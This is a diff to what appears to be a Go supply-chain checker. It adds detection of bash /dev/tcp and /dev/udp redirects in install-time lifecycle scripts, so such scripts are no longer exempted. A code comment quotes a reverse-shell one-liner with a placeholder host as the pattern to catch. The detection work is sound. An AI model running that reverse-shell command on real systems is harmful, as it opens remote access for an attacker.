@@ -565,12 +565,21 @@ func suspiciousProcess(p profile.Process) string {
 	return ""
 }
 
+// netRedirect reports whether a shell's script opens a connection itself
+// through bash's /dev/tcp or /dev/udp (`bash -i >& /dev/tcp/host/port 0>&1`):
+// a reverse shell or a beacon, never merely how a lifecycle script is run.
+// Its interactive shell would start only once the connection succeeds, so
+// the script's shell is all there is to judge.
+func netRedirect(p profile.Process) bool {
+	return len(p.Argv) == 3 && (strings.Contains(p.Argv[2], "/dev/tcp/") || strings.Contains(p.Argv[2], "/dev/udp/"))
+}
+
 func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile.Behavior) {
 	parts(b, func(b *profile.Behavior, un bool) {
 		var vals, kinds []string
 		for _, p := range b.Processes {
 			why := suspiciousProcess(p)
-			if why == "" || (phase == profile.PhaseInstall && (scriptRunner(p) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
+			if why == "" || (phase == profile.PhaseInstall && ((scriptRunner(p) && !netRedirect(p)) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
 				continue
 			}
 			vals = append(vals, processValue(p))
